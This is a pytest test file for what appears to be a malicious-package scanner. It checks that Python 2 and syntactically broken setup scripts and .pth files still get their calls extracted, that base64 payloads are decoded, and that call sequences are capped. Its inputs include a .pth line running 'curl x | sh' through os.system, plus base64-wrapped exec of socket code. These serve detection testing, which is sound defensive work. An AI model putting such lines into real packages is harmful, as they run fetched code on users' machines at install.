"""The tolerant token pass for text `ast` rejects (Python 2, syntax errors, .pth lines)."""

from __future__ import annotations

import base64

import pytest

from mphunter_gate.analysis import limits
from mphunter_gate.types import ParseMode, ScriptKind
from tests.analysis.analysis_support import apis, lines, run

PY2 = """
import urllib2 as u
from os import system
import base64
print "installing"
try:
    u.urlopen("http://x").read()
except Exception, e:
    print e
system("id")
exec "import os"
exec(base64.b64decode("%s"))
"""


def test_python2_setup_is_parsed_by_tokens_with_aliases_and_decoding() -> None:
    src = PY2 % base64.b64encode(b"import socket\nsocket.socket()\n").decode()
    a = run(src)
    assert a.parse is ParseMode.TOKENS
    assert a.error is None
    assert lines(a) == [
        ("urllib2.urlopen", 7),
        ("read", 7),
        ("os.system", 10),
        ("exec", 11),
        ("base64.b64decode", 12),
        ("exec", 12),
        ("socket.socket", 12),
    ]
    assert [(d.line, d.method) for d in a.decoded] == [(12, "base64")]


def test_pth_import_line_is_analysed() -> None:
    a = run(
        "import os; os.system('curl x | sh')\n",
        path="evil.pth",
        kind=ScriptKind.PTH,
    )
    assert a.parse is ParseMode.AST
    assert lines(a) == [("os.system", 1)]


def test_syntax_error_midway_keeps_calls_on_both_sides() -> None:
    src = "import os\nos.getcwd()\ndef broken(:\n    pass\nos.remove('x')\n"
    a = run(src)
    assert a.parse is ParseMode.TOKENS
    assert apis(a) == ["os.getcwd", "os.remove"]


def test_unterminated_string_falls_back_to_regex_scan() -> None:
    src = 'import subprocess\nsubprocess.call(["id"])\nx = """never closed\nsubprocess.Popen(1)\n'
    a = run(src)
    assert a.parse is ParseMode.TOKENS
    assert apis(a) == ["subprocess.call", "subprocess.Popen"]


def test_definitions_and_keywords_are_not_calls() -> None:
    src = "def f(x):\n    if (x): return (x)\nclass A(object): pass\nprint 'x'\n"
    a = run(src)
    # Read completely and cleanly, and really without calls: empty, but not a failure.
    assert a.parse is ParseMode.TOKENS
    assert a.sequences == ((), ())


def test_unreadable_text_without_calls_is_an_explicit_failure() -> None:
    a = run("print 'x'\nx = " + "'" * 3 + "never closed\n")
    assert a.parse is ParseMode.FAILED
    assert a.sequences == ()
    assert a.error is not None and "SyntaxError" in a.error


def test_non_utf8_text_is_analysed() -> None:
    raw = b"# \xff\xfe latin junk \xe9\nimport os\nos.system('id')\n"
    a = run(raw.decode("utf-8", "surrogateescape"))
    assert a.parse is ParseMode.AST
    assert apis(a) == ["os.system"]


@pytest.mark.parametrize(
    "line",
    [
        "import os; " + "; ".join(["os.getpid()"] * 1_000),  # each line re-parsed with `ast`
        "print 'x'; " + "; ".join(["os.getpid()"] * 1_000),  # each line read from its tokens
    ],
)
def test_the_token_pass_keeps_at_most_the_sequence_cap(line: str) -> None:
    # Python 2 on line 1, so the whole file goes through the token pass.
    calls = 25 * 1_000
    assert calls > limits.MAX_SEQUENCE_CALLS
    a = run("import os\nprint 'x'\n" + (line + "\n") * 25)
    assert a.parse is ParseMode.TOKENS
    assert len(a.sequences[0]) == limits.MAX_SEQUENCE_CALLS
    assert a.truncated
    normal = run("import os\nprint 'x'\n" + (line + "\n") * 5)
    assert len(normal.sequences[0]) == 5_000
    assert not normal.truncated


def test_lines_parsed_one_at_a_time_keep_every_call_next_to_folded_arithmetic() -> None:
    # Each line is its own tree, freed before the next one is parsed; what the evaluator
    # remembers of one line's folded arithmetic must not hide the next line's calls.
    body = "".join(f"t = [(1 << 3) + {i}, 2 << 1]\ny = (f{i}() ^ 3) + 1\n" for i in range(40))
    a = run('print "py2"\n' + body)
    assert a.parse is ParseMode.TOKENS
    assert [api for api in apis(a) if api.startswith("f")] == [f"f{i}" for i in range(40)]


def test_payloads_inlined_by_the_token_pass_keep_to_the_sequence_cap() -> None:
    payload = base64.b64encode(b"f()\n" * 7_000).decode()
    src = 'print "py2"\nimport base64\n' + f"exec(base64.b64decode('{payload}'))\n" * 3
    a = run(src)
    assert a.parse is ParseMode.TOKENS
    assert all(len(seq) == limits.MAX_SEQUENCE_CALLS for seq in a.sequences)
    assert a.truncated
    one = run('print "py2"\nimport base64\n' + f"exec(base64.b64decode('{payload}'))\n")
    assert not one.truncated
